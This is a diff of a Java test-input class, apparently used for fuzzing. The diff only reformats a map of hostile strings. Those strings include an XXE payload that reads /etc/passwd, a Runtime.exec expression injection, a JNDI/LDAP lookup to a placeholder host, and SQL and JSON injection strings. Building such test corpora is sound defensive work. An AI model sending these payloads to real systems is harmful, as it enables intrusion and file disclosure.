@@ -39,7 +39,8 @@ public final class Hostile {
             Map.entry("SQL pattern", "%_\\%" + MARK),
             Map.entry("SQL array", "{\"" + MARK + "\",NULL}"),
             Map.entry("JSON", "\"}],\"" + MARK + "\":[{\"a\":\""),
-            Map.entry("XML", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
+            Map.entry(
+                    "XML", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"),
             Map.entry("expression", "${7731*7919}#{7731*7919}{{7731*7919}}@{7731*7919}%{7731*7919}"),
             Map.entry("class expression", "${T(java.lang.Runtime).getRuntime().exec('" + MARK + "')}"),
             Map.entry("log lookup", "${jndi:ldap://" + MARK + ".example/a}"),
@@ -58,7 +59,7 @@ public final class Hostile {
             Map.entry("no character", "\ufffe\uffff" + new String(Character.toChars(0x10ffff))),
             Map.entry("beyond the first plane", "𠮷𡈽𪚥𬉼😀👨‍👩‍👧‍👦" + MARK),
             Map.entry("many marks", "a" + "\u0301\u0489".repeat(300)),
-            Map.entry("grows when folded", "ﷺ" .repeat(50) + "ŉǰΐİẞ"),
+            Map.entry("grows when folded", "ﷺ".repeat(50) + "ŉǰΐİẞ"),
             Map.entry("digits of others", "٣٤٥１２３໑᠐〇𝟘"),
             Map.entry("whole number, too large", "9223372036854775808"),
             Map.entry("whole number, negative", "-1"),
